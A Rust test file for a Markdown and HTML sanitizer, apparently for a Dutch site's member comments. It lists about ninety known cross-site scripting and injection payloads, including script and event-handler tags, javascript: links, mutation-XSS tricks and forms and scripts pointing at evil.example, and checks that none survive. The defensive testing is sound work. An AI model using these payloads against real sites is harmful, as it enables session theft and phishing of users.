//! Whether anything a member writes can do harm. In: attacks that are known, and the same damaged by chance. Out: HTML
//! that is read again by a browser's rules and looked through, element by element.

use scraper::{Html, Node};

use super::*;
use crate::base::testing::{Chance, damaged};

/// Attacks on HTML, on Markdown, on what reads the result after us.
pub(crate) const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/pixel.gif?id=1\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><rect/></a>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=\"background:url(//evil.example)\">x</p>",
    "<form action=//evil.example><input name=wachtwoord><button>Inloggen</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\" jAvAsCrIpT:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example\" target=_blank onclick=alert(1) id=deelnemen class=knop name=x>x</a>",
    "<a href=\"https://evil.example\" rel=opener ping=//evil.example style=position:fixed>x</a>",
    "<a href='https://evil.example/\"onmouseover=alert(1) '>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/reacties/uitloggen)",
    "[x](\\\\evil.example\\x)",
    "[x](https://evil.example \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](https://evil.example/\"><script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onload=alert(1)>",
    "https://evil.example/\"onload=alert(1)//<script>alert(1)</script>",
    "![x](https://evil.example/pixel.gif)",
    "![<script>alert(1)</script>](x)",
    "![x](\"onerror=\"alert(1))",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```html onload=alert(1)\nx\n```",
    "# <img src=x onerror=alert(1)> {#deelnemen .knop onclick=alert(1)}",
    "| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "a\u{202e}gpj.exe [x](https://evil.example/\u{202e}gpj)",
    "&#x202E;omgekeerd &#x2066;x &#0; &#x1; &#xFFFE; &#x200B;",
    "\u{338}a *\u{338}b* &#x338;c <\u{338}d",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} <%= 7 %>",
    "<pre>\n\n\nx</pre><p>a<p>b<b><p>c</b>",
    "<a href=\"https://a.example\"><table><tr><td><a href=\"https://b.example\">x</a></table></a>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "';alert(String.fromCharCode(88,83,83))//\\';alert(1)//\">'><SCRIPT>alert(1)</SCRIPT>=&{}",
    "\"><svg/onload=alert(1)//<a href=javascript:alert(1)>[x](javascript:alert(1))<!--",
];

/// What may be in a text, written down a second time: whoever allows more must think twice.
const MAY: [&str; 11] = ["p", "strong", "em", "ul", "ol", "li", "blockquote", "code", "pre", "a", "br"];
const MAY_LEAD: [&str; 3] = ["http", "https", "mailto"];

/// Reads the HTML as a browser would and says what is in it that may not be.
fn harms(html: &str) -> Vec<String> {
    let mut faults = Vec::new();
    for node in Html::parse_fragment(html).tree.nodes() {
        let element = match node.value() {
            Node::Element(element) => element,
            Node::Comment(_) | Node::Doctype(_) | Node::ProcessingInstruction(_) => {
                faults.push(format!("{:?}", node.value()));
                continue;
            }
            _ => continue,
        };
        if !["html", "body"].contains(&element.name()) && !MAY.contains(&element.name()) {
            faults.push(format!("element {}", element.name()));
        }
        for (name, value) in element.attrs() {
            let url = || url::Url::parse(value).is_ok_and(|url| MAY_LEAD.contains(&url.scheme()));
            let right = match (element.name(), name) {
                ("a", "href") => url(),
                ("a", "rel") => value == "nofollow ugc noopener noreferrer",
                _ => false,
            };
            if !right {
                faults.push(format!("{} {name}={value:?}", element.name()));
            }
        }
        if element.name() == "a" && element.attr("href").is_some() && element.attr("rel").is_none() {
            faults.push("a link that does not say what it is".to_owned());
        }
    }
    let hidden = |c: &char| (c.is_control() && !"\n\t".contains(*c)) || ('\u{202a}'..='\u{202e}').contains(c);
    faults.extend(html.chars().find(hidden).map(|found| format!("{found:?}")));
    faults.extend(html.contains(">\u{338}").then(|| "a tag that can be melted".to_owned()));
    faults
}

#[track_caller]
fn harmless_and_at_rest(source: &str) {
    for html in [to_html(source), clean(source)] {
        let faults = harms(&html);
        assert!(faults.is_empty(), "{faults:?}\nof {source:?}\nin {html:?}");
        assert_eq!(clean(&html), html, "of {source:?}");
        assert!(depth(&html) <= DEEPEST, "of {source:?}");
    }
}

#[test]
fn known_attacks_do_nothing() {
    assert!(ATTACKS.len() >= 60, "{}", ATTACKS.len());
    for attack in ATTACKS {
        harmless_and_at_rest(attack);
        harmless_and_at_rest(&format!("Een gewone zin.\n\n> - {attack}\n\nNog een zin."));
    }
}

/// The test above would not see anything if it looked wrongly.
#[test]
fn harm_is_seen() {
    for html in [
        "<script>x</script>",
        "<img src=x>",
        "<p class=x>",
        "<a href=\"javascript:x\" rel=x>",
        "<a href=\"/x\">",
        "<!-- x -->",
        "<svg></svg>",
        "a\u{202e}b",
        "<p id=x>",
        "<a href=\"https://a.example\">x</a>",
    ] {
        assert!(!harms(html).is_empty(), "{html}");
    }
    assert!(harms(&format!("<p><a href=\"https://a.example\" rel=\"{REL}\">x</a><br></p>")).is_empty());
}

#[test]
fn damaged_attacks_do_nothing_either() {
    let samples: Vec<&[u8]> = ATTACKS.iter().map(|attack| attack.as_bytes()).collect();
    let mut chance = Chance::new(1);
    for _ in 0..3000 {
        let bytes = damaged(&mut chance, &samples);
        harmless_and_at_rest(&String::from_utf8_lossy(&bytes));
    }
}

#[test]
fn raw_html_is_shown_as_it_was_typed() {
    assert_eq!(to_html("<b>a</b>"), "<p>&lt;b&gt;a&lt;/b&gt;</p>");
    assert_eq!(to_html("<div>\na\n</div>"), "<p>&lt;div&gt;\na\n&lt;/div&gt;</p>");
    assert_eq!(to_html("a <!-- b --> c"), "<p>a &lt;!-- b --&gt; c</p>");
}

#[test]
fn the_subset_is_what_it_says() {
    let rel = format!("rel=\"{REL}\"");
    for (markdown, html) in [
        ("", String::new()),
        (" \n\t\n", String::new()),
        ("een\ntwee", "<p>een<br>\ntwee</p>".to_owned()),
        ("# Kop\ntekst", "<p><strong>Kop</strong></p>\n<p>tekst</p>".to_owned()),
        (
            "**vet** *schuin* `code`",
            "<p><strong>vet</strong> <em>schuin</em> <code>code</code></p>".to_owned(),
        ),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>".to_owned()),
        ("3. a\n4. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>".to_owned()),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>".to_owned()),
        ("```rust\nfn a() {}\n```", "<pre><code>fn a() {}\n</code></pre>".to_owned()),
        ("a\n\n---\n\nb", "<p>a</p>\n<p>b</p>".to_owned()),
        ("![een boom](https://a.example/b.png)", "<p>een boom</p>".to_owned()),
        ("![](https://a.example/b.png)", "<p>(afbeelding)</p>".to_owned()),
        ("[x](/over-ons/)", "<p>x</p>".to_owned()),
        ("[x](https://a.nl \"t\")", format!("<p><a href=\"https://a.nl\" {rel}>x</a></p>")),
        ("[![y](z)](https://a.nl)", format!("<p><a href=\"https://a.nl\" {rel}>y</a></p>")),
        ("[x](mailto:info@a.nl)", format!("<p><a href=\"mailto:info@a.nl\" {rel}>x</a></p>")),
    ] {
        assert_eq!(to_html(markdown), html, "{markdown:?}");
    }
}

#[test]
fn addresses_become_links() {
    for (markdown, address, behind) in [
        ("https://a.nl/b_c_d?e=f#g.", "https://a.nl/b_c_d?e=f#g", "."),
        ("(https://a.nl/b_(c))", "https://a.nl/b_(c)", ")"),
        ("http://a.nl/…", "http://a.nl/", "…"),
        ("http:// https://a.nl", "https://a.nl", ""),
    ] {
        let html = to_html(&format!("zie {markdown}"));
        let expected = format!("<a href=\"{address}\" rel=\"{REL}\">{address}</a>{behind}</p>");
        assert!(html.ends_with(&expected), "{markdown}: {html}");
    }
    for markdown in ["`https://a.nl`", "    https://a.nl", "http://", "https:// a", "www.a.nl"] {
        assert!(!to_html(markdown).contains("<a "), "{markdown}");
    }
    assert_eq!(to_html("[https://a.nl](https://b.nl)").matches("<a ").count(), 1);
}

#[test]
fn whatever_is_nested_too_deep_or_very_long_is_still_text() {
    for markdown in [
        ">".repeat(20_000) + "a",
        "- ".repeat(10_000) + "a",
        "*a **b ".repeat(2_000) + &"** c* ".repeat(2_000),
        "[".repeat(20_000),
        "![".repeat(10_000) + &"](x)".repeat(2_000),
        format!("https://a{}", ")".repeat(20_000)),
        "http://".repeat(2_900),
        "`".repeat(20_000),
        "<b>".repeat(6_000),
        "&".repeat(20_000),
        "1. a\n   ".repeat(2_000),
    ] {
        let html = to_html(&markdown);
        assert!(harms(&html).is_empty() && depth(&html) <= DEEPEST);
        assert!(html.len() < 400_000, "{}", html.len());
        assert!(clean(&markdown).len() < 400_000);
    }
    let deep = format!("{}a{}", "<blockquote>".repeat(500), "</blockquote>".repeat(500));
    assert_eq!(clean(&deep), "<p>a</p>");
    assert!(to_html(&(">".repeat(30) + "a")).contains("<p>a</p>"));
}

#[test]
fn html_from_elsewhere_keeps_its_text() {
    assert_eq!(clean("<h2 id=a>Kop</h2><p onclick=x>a &lt; b</p><script>x</script>"), "Kop<p>a &lt; b</p>");
    assert_eq!(clean("<pre>\n\n\na</pre>"), "<pre>a</pre>");
    assert_eq!(clean("a\u{a0}b"), "a&nbsp;b");
}

#[test]
fn plain_text_of_html() {
    assert_eq!(
        plain("<p>een<br>twee &lt;3</p><ul><li>a <em>b</em></li><li>c</li></ul>"),
        "een\ntwee <3\na b\nc"
    );
    assert_eq!(plain("<p>&amp;lt; <a href=\"https://a.nl/?a=%3E&amp;b='>'\">x</a></p>"), "&lt; x");
    assert_eq!(plain("<script>x</script>\n<p> </p>"), "");
    assert_eq!(plain("a&#x202E;b&#x200B;c&#x1;"), "abc");
    assert_eq!(plain(&to_html("a < b & c > d \"e\"")), "a < b & c > d \"e\"");
}

#[test]
fn a_summary_is_never_longer_than_asked() {
    assert_eq!(summary("een twee\ndrie", 20), "een twee drie");
    assert_eq!(summary("een twee, drie", 11), "een twee…");
    assert_eq!(summary("een twee drie", 9), "een twee…");
    assert_eq!(summary("een twee drie", 8), "een…");
    assert_eq!(summary("lettergrepenwoord", 7), "letter…");
    assert_eq!(summary("👩‍👧👩‍👧👩‍👧", 5), "👩‍👧…");
    assert_eq!(summary("abc", 0), "");
    let mut chance = Chance::new(2);
    let samples: Vec<&[u8]> = ATTACKS.iter().map(|attack| attack.as_bytes()).collect();
    for _ in 0..500 {
        let text = String::from_utf8_lossy(&damaged(&mut chance, &samples)).into_owned();
        let chars = chance.below(60);
        assert!(summary(&text, chars).chars().count() <= chars, "{text:?} {chars}");
    }
}
